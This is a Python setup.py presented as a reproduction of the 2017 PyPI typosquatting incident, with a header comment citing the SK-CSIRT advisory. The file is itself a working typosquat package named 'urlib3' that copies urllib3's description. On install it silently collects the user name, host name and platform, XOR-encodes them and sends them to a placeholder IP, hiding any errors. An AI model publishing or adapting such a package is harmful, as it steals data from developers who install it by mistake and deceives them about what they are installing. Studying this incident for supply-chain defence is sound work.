# Incident: PyPI typosquats "urlib3", "acqusition", "setup-tools", "django-server" and others,
# reported by the Slovak NBU/SK-CSIRT in September 2017. The packages copied the real
# project but their setup.py, run at install time, collected the user name, host name and
# package name, encoded them and sent them with urllib to a server on an IP literal.
# Reference: https://www.nbu.gov.sk/skcsirt-sa-20170909-pypi/
# Reproduction (own code, placeholder host).
import os
import platform
import socket
import sys

from setuptools import find_packages, setup

try:
    from urllib.request import Request, urlopen
except ImportError:  # Python 2, which most victims still ran in 2017
    from urllib2 import Request, urlopen


def _stats():
    try:
        user = os.environ.get("USER") or os.environ.get("USERNAME") or "?"
        data = "Y:urlib3:{}:{}:{}".format(user, socket.gethostname(), platform.platform())
        payload = bytes(data, "utf-8") if sys.version_info[0] >= 3 else data
        xored = bytearray(b ^ 0x2A for b in bytearray(payload))
        req = Request("http://198.51.100.44:8080/", data=bytes(xored))
        urlopen(req, timeout=3)
    except Exception:
        pass


_stats()

setup(
    name="urlib3",
    version="1.22",
    description="HTTP library with thread-safe connection pooling, file post, and more.",
    packages=find_packages(exclude=["test"]),
    install_requires=[],
    classifiers=["Programming Language :: Python :: 2", "Programming Language :: Python :: 3"],
)
